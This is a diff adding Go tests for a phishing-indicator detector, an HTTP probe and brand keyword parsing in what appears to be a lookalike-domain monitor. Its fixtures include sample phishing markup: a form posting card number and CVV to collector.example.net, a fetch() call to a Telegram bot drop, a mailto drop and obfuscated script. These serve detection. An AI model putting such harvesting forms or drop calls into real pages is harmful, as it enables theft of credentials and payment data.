@@ -0,0 +1,64 @@
+package main
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"reflect"
+	"testing"
+	"time"
+)
+
+func TestPhishingIndicators(t *testing.T) {
+	page, _ := url.Parse("https://examp1e.com/login")
+	tests := []struct {
+		name     string
+		body     string
+		expected []string
+	}{
+		{"login kit", `<form method="post" action="/auth"><h2>Sign in to Example</h2><input name="user"><input type="password" name="pass"></form>`, []string{phishPasswordField, phishLoginForm}},
+		{"card harvester", `<p>Your account has been suspended.</p><form action="https://collector.example.net/save.php"><input name="card_number"><input name="cvv"></form>`, []string{phishCardFields, phishUrgency, phishExternalForm}},
+		{"telegram drop", `<script>fetch("https://api.telegram.org/bot123:abc/sendMessage")</script>`, []string{phishTelegram}},
+		{"obfuscated", `<script>document.write(unescape('%3Cform%3E'))</script>`, []string{phishObfuscated}},
+		{"mailto form", `<form action="mailto:drop@example.net"><input name="email"></form>`, []string{phishExternalForm}},
+		// Forms posting to the page's own site or a subdomain are not external
+		{"same site", `<form action="https://www.examp1e.com/search"><input name="q"></form><form action="https://cdn.examp1e.com/x"></form>`, nil},
+		{"plain page", `<html><title>Example</title><p>Coming soon</p></html>`, nil},
+	}
+	for _, tt := range tests {
+		if got := phishingIndicators([]byte(tt.body), page); !reflect.DeepEqual(got, tt.expected) {
+			t.Errorf("%s: phishingIndicators() = %v, expected %v", tt.name, got, tt.expected)
+		}
+	}
+}
+
+func TestProbePhishingIndicators(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Write([]byte(`<title>Example Login</title><form><p>Log in</p><input type="password"></form>`))
+	}))
+	defer server.Close()
+
+	probe := probeURL(&http.Client{Timeout: 5 * time.Second}, server.URL, []string{"example"})
+	if !reflect.DeepEqual(probe.phishing, []string{phishPasswordField, phishLoginForm}) {
+		t.Errorf("Expected the probe to record the login form, got %v", probe.phishing)
+	}
+
+	info := DomainInfo{Domain: "examp1e.com", HTTP: probe, Phishing: probe.phishing}
+	assessRisk(&info, nil, riskEvidence{}, Config{}, time.Now())
+	found := false
+	for _, factor := range info.RiskFactors {
+		if factor.Name == "phishing_indicators" && factor.Points == riskPhishing && factor.Detail == "password_field, login_form" {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("Expected a phishing_indicators risk factor, got %+v", info.RiskFactors)
+	}
+}
+
+func TestBrandKeywords(t *testing.T) {
+	got := brandKeywords(Config{Domain: "example.com", Keywords: "Example Pay, example,,examplebank"})
+	if !reflect.DeepEqual(got, []string{"example", "Example Pay", "examplebank"}) {
+		t.Errorf("brandKeywords() = %v", got)
+	}
+}